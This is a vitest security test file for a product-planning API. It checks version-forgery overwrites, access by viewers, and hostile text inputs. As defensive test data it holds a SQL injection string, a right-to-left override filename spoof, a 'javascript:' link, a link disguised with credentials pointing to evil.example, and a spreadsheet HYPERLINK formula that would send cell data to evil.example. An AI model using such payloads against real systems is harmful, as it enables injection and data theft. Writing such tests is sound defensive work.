/** Attacks on what people plan: overwriting unseen, looking at what is hidden, and texts that act. */
import { describe, expect, it } from 'vitest'
import type { CalendarList } from '#server/contracts/calendars.ts'
import type { Feature } from '#server/contracts/features.ts'
import type { Import, ImportRow } from '#server/contracts/imports.ts'
import type { Launch } from '#server/contracts/launches.ts'
import type { PageOf } from '#server/contracts/primitives.ts'
import type { Problem } from '#server/contracts/problems.ts'
import type { ProductArea } from '#server/contracts/product-areas.ts'
import type { Client } from '../../support/client.ts'
import { decide, readGrading, score, seenIn } from '../grading-fixtures.ts'
import { addOwn, draft, plan } from '../launches-fixtures.ts'
import { type Attack, type Company, replay, told } from './company.ts'

/** Scores for which the shipped rubric proposes a big scenario. */
const bigScenario = [4, 4, 4, 4, 3, 3, 3, 2]

type Versioned = { id: string; version: number }
/** What somebody overwrites: where it is read and written, and with what. */
type Overwriting = Readonly<{ path: string; part?: string; method?: string; body: object }>

const create = async <Entity extends Versioned>(
  client: Client,
  path: string,
  body: object,
): Promise<Entity> => (await client.post<Entity>(path, body)).body
const newFeature = ({ ada }: Company, title: string, rest: object = {}) =>
  create<Feature>(ada.client, '/api/features', { title, ...rest })
const newLaunch = async (company: Company, title: string) => {
  const featureIds = [(await newFeature(company, `${title} itself`)).id]
  return create<Launch>(company.ada.client, '/api/launches', { title, featureIds })
}

const overwritten: Record<string, (company: Company) => Promise<Overwriting>> = {
  'a feature': async (company) => ({
    path: `/api/features/${(await newFeature(company, 'Rye')).id}`,
    body: { summary: 'Forged' },
  }),
  'who sees a feature': async (company) => ({
    path: `/api/features/${(await newFeature(company, 'Oat')).id}`,
    part: '/confidentiality',
    method: 'PUT',
    body: { isConfidential: true, personIds: [] },
  }),
  'a launch': async (company) => ({
    path: `/api/launches/${(await newLaunch(company, 'Bread')).id}`,
    body: { summary: 'Forged' },
  }),
  'a task': async (company) => {
    const { pia } = company
    const feature = await newFeature(company, 'Rolls', { stage: 'gray' })
    await score(pia, feature, bigScenario)
    await decide(pia, feature, { grade: 'big-scenario' })
    const launch = await plan(pia, await draft(pia, feature), 'big-scenario')
    return { path: `/api/tasks/${(await addOwn(pia, launch)).body.id}`, body: { note: 'Forged' } }
  },
  'a product area': async ({ ada }) => ({
    path: `/api/product-areas/${(await create<ProductArea>(ada.client, '/api/product-areas', { name: 'Ovens' })).id}`,
    body: { name: 'Forged' },
  }),
  'a calendar': async ({ ada }) => {
    const [calendar] = (await ada.client.get<CalendarList>('/api/calendars')).body.items
    return { path: `/api/calendars/${calendar!.id}`, method: 'PUT', body: calendar!.definition }
  },
  'a person': async ({ vera }) => ({ path: `/api/people/${vera.person.id}`, body: { name: 'Forged' } }),
  'the settings': async () => ({ path: '/api/workspace', body: { name: 'Forged' } }),
}

const forgedVersions = ['*', '1', '"1", "2"', '"-1"', '"9999999999"', '"1"; drop table features', '""']

const looks: Attack[] = [
  ['a viewer reads the audit log', 403, 'not-allowed', ({ vera }) => vera.client.get('/api/activity')],
  [
    'a viewer reads role changes',
    403,
    'not-allowed',
    ({ vera }) => vera.client.get('/api/activity?noun=person'),
  ],
  [
    'a viewer exports the audit log',
    403,
    'not-allowed',
    ({ vera }) => vera.client.get('/api/activity/export'),
  ],
  [
    'a viewer imports, to see what is known',
    403,
    'not-allowed',
    ({ vera }) => upload<Problem>(vera.client, 'title\nRye\n'),
  ],
  [
    'somebody opens a confidential feature of others by its id',
    404,
    'not-found',
    async (company) => {
      const { id } = await secretOf(company)
      return company.pia.client.get(`/api/features/${id}`)
    },
  ],
]

const upload = <Body = Import>(client: Client, file: string) =>
  client.post<Body>('/api/imports?fileName=list.csv', Buffer.from(file), {
    headers: { 'content-type': 'text/csv' },
  })

/** A feature that only administrators see. */
async function secretOf(company: Company): Promise<Feature> {
  const secret = await newFeature(company, 'Falcon')
  const hidden = { isConfidential: true, personIds: [] }
  const path = `/api/features/${secret.id}/confidentiality`
  expect((await company.ada.client.put(path, hidden, { ifMatch: 1 })).status).toBe(200)
  return secret
}

const badTexts: Attack[] = [
  [
    'a title turns around what stands beside it (U+202E)',
    422,
    'unseen-characters',
    ({ pia }) => pia.client.post('/api/features', { title: 'Invoice \u202Efdp.exe' }),
  ],
  [
    'a link shows another host than it opens',
    422,
    'link-with-credentials',
    ({ pia }) =>
      pia.client.post('/api/features', {
        title: 'Oat',
        externalLink: 'https://bakery.example:443@evil.example/',
      }),
  ],
  [
    'a link runs a script',
    422,
    'link',
    ({ pia }) => pia.client.post('/api/features', { title: 'Oat', externalLink: 'javascript:alert(1)' }),
  ],
]

export function attacksOnEntities(companyOf: () => Company): void {
  describe.each(Object.entries(overwritten))('somebody overwrites %s', (_what, prepare) => {
    it('on no, an old or a forged version → 428, 412, 422, and nothing has changed', async () => {
      const company = companyOf()
      const { path, part = '', method = 'PATCH', body } = await prepare(company)
      const { client } = company.ada
      const { version } = (await client.get<Versioned>(path)).body
      expect((await client.send(method, path + part, body, { ifMatch: version })).status).toBe(200)
      const before = (await client.get<Versioned>(path)).body
      expect(before.version).toBe(version + 1)
      const write = async (header?: string) => {
        const options = header === undefined ? {} : { headers: { 'if-match': header } }
        return told(await client.send<Problem>(method, path + part, body, options))
      }
      expect(await write()).toEqual([428, 'version-required'])
      expect(await write(`"${version}"`)).toEqual([412, 'stale-version'])
      expect(await write('"999999"')).toEqual([412, 'stale-version'])
      for (const header of forgedVersions) expect(await write(header), header).toEqual([422, 'not-a-version'])
      expect((await client.get(path)).body).toEqual(before)
    })
  })

  it('two people decide on one feature at once → one of them is told that it is decided', async () => {
    const company = companyOf()
    const lena = await company.add('Lena', 'pmm')
    const feature = await newFeature(company, 'Sourdough', { stage: 'gray' })
    for (const rater of [company.pia, lena]) await score(rater, feature, bigScenario)
    const seen = seenIn(await readGrading(lena, feature))
    const answers = await Promise.all(
      [company.pia, lena].map((who) => decide<Problem>(who, feature, { ...seen, grade: 'big-scenario' })),
    )
    expect(answers.map(({ status }) => status).toSorted()).toEqual([201, 412])
    expect((await readGrading(lena, feature)).decisions).toHaveLength(1)
  })

  replay(companyOf, looks)

  it('a viewer reads people and their histories → without addresses and origins', async () => {
    const { vera, pia } = companyOf()
    for (const path of [
      '/api/people',
      `/api/people/${pia.person.id}`,
      `/api/activity?entityId=${pia.person.id}`,
    ]) {
      const { status, body } = await vera.client.get(path)
      expect(status, path).toBe(200)
      expect(JSON.stringify(body).replaceAll(vera.person.email, ''), path).not.toMatch(
        /bakery\.example|127\.0\.0\.1|password-set|link-made/,
      )
    }
  })

  it('an import asks for addresses and confidential titles → is told nothing', async () => {
    const company = companyOf()
    await secretOf(company)
    const file = 'title,PM\nFalcon,\nRolls,vera@bakery.example\nBuns,nobody@bakery.example\n'
    const { body } = await upload(company.pia.client, file)
    const { items } = (await company.pia.client.get<PageOf<ImportRow>>(`/api/imports/${body.id}/rows`)).body
    expect(items.map(({ kind, errors }) => errors[0]?.code ?? kind)).toEqual([
      'new',
      'address-not-readable',
      'address-not-readable',
    ])
  })

  replay(companyOf, badTexts)

  it('a title is a formula → the export starts its cell with an apostrophe', async () => {
    const company = companyOf()
    await newFeature(company, '=HYPERLINK("https://evil.example?"&A1)')
    const { body } = await company.ada.client.get<string>('/api/features/export?format=csv')
    expect(body).toContain(`'=HYPERLINK(`)
    expect(body).not.toMatch(/(^|[,"\n\r])=HYPERLINK/)
  })
}
